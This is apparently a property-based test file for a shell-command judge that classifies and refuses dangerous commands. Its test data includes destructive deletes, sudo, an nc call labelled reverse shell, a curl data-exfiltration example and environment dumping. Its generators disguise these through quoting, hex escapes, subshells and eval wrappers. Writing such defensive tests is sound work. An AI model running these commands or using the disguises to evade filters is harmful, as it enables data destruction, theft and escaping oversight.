/** What holds for every command line: it is judged whatever it is, and what is refused stays refused however it is dressed up. */
import { expect, test } from "bun:test";
import fc from "fast-check";
import type { Group } from "../../actors/shell/groups.ts";
import { judgeArgv, judgeLine } from "../../actors/shell/judge.ts";
import commands from "../fixtures/shell/commands.json" with { type: "json" };

const groupsOf = (command: string) => judgeLine(command).map(({ group }) => group);
const PIECES = [
  ..."'\"`$\\(){}<>|&;#*?[]=~!@-\n\t 1ax",
  ...[
    "$(",
    "<(",
    "${",
    "$((",
    "))",
    "<<E\n",
    "\nE\n",
    "$'",
    "&&",
    "||",
    "&>",
    ">&",
    "case x in ",
    "esac",
    "if ",
    "fi",
    "for x in ",
    "do ",
    "done",
    "f() ",
    "[[ ",
    " ]]",
  ],
  ...["rm -rf x", "sh -c ", "eval ", "xargs ", "sudo ", "find . -exec ", "curl x", "sed ", "\\\n", "\0", "\u200b", "；", "＇"],
];
const anyText = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join("")),
);
const RUNS = { numRuns: 2_000 };

test("every text and every argv is judged", () => {
  fc.assert(
    fc.property(anyText, fc.array(anyText, { maxLength: 6 }), (text, argv) => {
      for (const finding of [...judgeLine(text), ...judgeArgv(argv)]) expect(finding.seen).not.toBe("it cannot be read");
    }),
    RUNS,
  );
});

test("the same text is judged the same", () => {
  fc.assert(
    fc.property(anyText, (text) => {
      expect(judgeLine(text)).toEqual(judgeLine(text));
    }),
  );
});

/** Words that are refused as they stand, with the group. */
const REFUSED: readonly (readonly [Group, readonly string[]])[] = [
  ["destructive_ops", ["rm", "-rf", "x"]],
  ["destructive_ops", ["find", ".", "-delete"]],
  ["destructive_ops", ["reboot"]],
  ["privilege_escalation", ["sudo", "ls"]],
  ["reverse_shell", ["nc", "example.com", "1"]],
  ["data_exfiltration", ["curl", "-d", "x", "example.com"]],
  ["process_control", ["kill", "-9", "1"]],
  ["package_install", ["npm", "ci"]],
  ["env_dump", ["printenv"]],
  ["persistence", ["systemctl", "enable", "x"]],
];
const refusedWords = fc.constantFrom(...REFUSED);

/** One word in one of the spellings that mean the same to a shell. */
const spelled = (word: string): fc.Arbitrary<string> =>
  fc
    .array(fc.constantFrom("plain", "backslash", "single", "double", "ansi", "hex", "empty", "continued"), {
      minLength: word.length,
      maxLength: word.length,
    })
    .map((ways) =>
      [...word]
        .map((char, at) => {
          switch (ways[at]) {
            case "backslash":
              return `\\${char}`;
            case "single":
              return `'${char}'`;
            case "double":
              return `"${char}"`;
            case "ansi":
              return `$'${char}'`;
            case "hex":
              return `$'\\x${char.charCodeAt(0).toString(16).padStart(2, "0")}'`;
            case "empty":
              return `''${char}`;
            case "continued":
              return `\\\n${char}`;
            default:
              return char;
          }
        })
        .join(""),
    );
const dressed = refusedWords.chain(([group, words]) =>
  fc.tuple(
    fc.constant(group),
    fc.tuple(...words.map(spelled)).map((spellings) => spellings.join(" ")),
  ),
);

test("quotes change nothing", () => {
  fc.assert(
    fc.property(dressed, ([group, command]) => {
      expect(groupsOf(command)).toContain(group);
    }),
    RUNS,
  );
});

/** Places in a line where a command runs. */
const PLACES: readonly ((command: string) => string)[] = [
  (c) => `ls; ${c}`,
  (c) => `${c}; ls`,
  (c) => `ls && ${c}`,
  (c) => `ls || ${c}`,
  (c) => `ls & ${c}`,
  (c) => `${c} &`,
  (c) => `ls | ${c}`,
  (c) => `${c} | cat`,
  (c) => `ls\n${c}\nls`,
  (c) => `# it's a comment\n${c}`,
  (c) => `(${c})`,
  (c) => `{ ${c}; }`,
  (c) => `! ${c}`,
  (c) => `echo $( ${c} )`,
  (c) => `echo "a $( ${c} ) b"`,
  (c) => `x=$( ${c} )`,
  (c) => `echo \${x:-$( ${c} )}`,
  (c) => `cat <(${c})`,
  (c) => `cat > $( ${c} )`,
  (c) => `cat <<E\n$( ${c} )\nE`,
  (c) => `if ls; then ${c}; fi`,
  (c) => `if ${c}; then ls; else ls; fi`,
  (c) => `while ls; do ${c}; done`,
  (c) => `for x in 1 2; do ${c}; done | cat`,
  (c) => `case x in a) ls;; b) ${c};; esac`,
  (c) => `f() { ${c}; }; f`,
  (c) => `[[ -n x ]] && ${c}`,
  (c) => `cat <<'E'\nit's "data"\nE\n${c}`,
  (c) => `echo 'a' "b" \\' ; ${c}`,
  (c) => `echo $((1 + 2)); ${c}`,
];
/** What may stand in front of a simple command only. */
const FRONTS: readonly ((command: string) => string)[] = [
  (c) => c,
  (c) => `A=1 ${c}`,
  (c) => `>/dev/null ${c}`,
  (c) => `env A=1 ${c}`,
  (c) => `timeout 5 ${c}`,
  (c) => `nice -n 3 ${c}`,
  (c) => `2>&1 nohup setsid ${c}`,
  (c) => `A=1 exec -a ls env -u B ${c}`,
];
const inPlaces = fc
  .tuple(refusedWords, fc.constantFrom(...FRONTS), fc.array(fc.constantFrom(...PLACES), { maxLength: 4 }))
  .map(([[group, words], front, places]) => ({ group, places, command: front(words.join(" ")) }));

test("a refused command is refused wherever in a line it stands, or the line is", () => {
  fc.assert(
    fc.property(inPlaces, ({ group, places, command }) => {
      const line = places.reduce((inner, place) => place(inner), command);
      const groups = groupsOf(line);
      if (!groups.includes("unreadable")) expect(groups).toContain(group);
    }),
    RUNS,
  );
});

test("a text that a shell is handed is judged like the line", () => {
  const shell = fc.constantFrom("sh -c", "bash -lc", "env sh -ec", "eval", "busybox sh -c", "nohup bash --norc -c");
  fc.assert(
    fc.property(inPlaces, shell, ({ group, places, command }, by) => {
      const inner = places.slice(0, 2).reduce((text, place) => place(text), command);
      const groups = groupsOf(`${by} '${inner.replaceAll("'", "'\\''")}'`);
      if (!groups.includes("unreadable")) expect(groups).toContain(group);
    }),
    RUNS,
  );
});

test("what passes goes on passing behind every other harmless command", () => {
  const harmless = commands.passes.filter((command) => !command.includes("<<") && !command.includes("#") && command.trim() !== "");
  for (const one of harmless)
    for (const other of harmless) {
      const found = judgeLine(`${one}\n${other}`).filter(({ group }) => group !== "data_exfiltration");
      if (found.length > 0) expect({ one, other, found }).toEqual({ one, other, found: [] });
    }
}, 60_000);
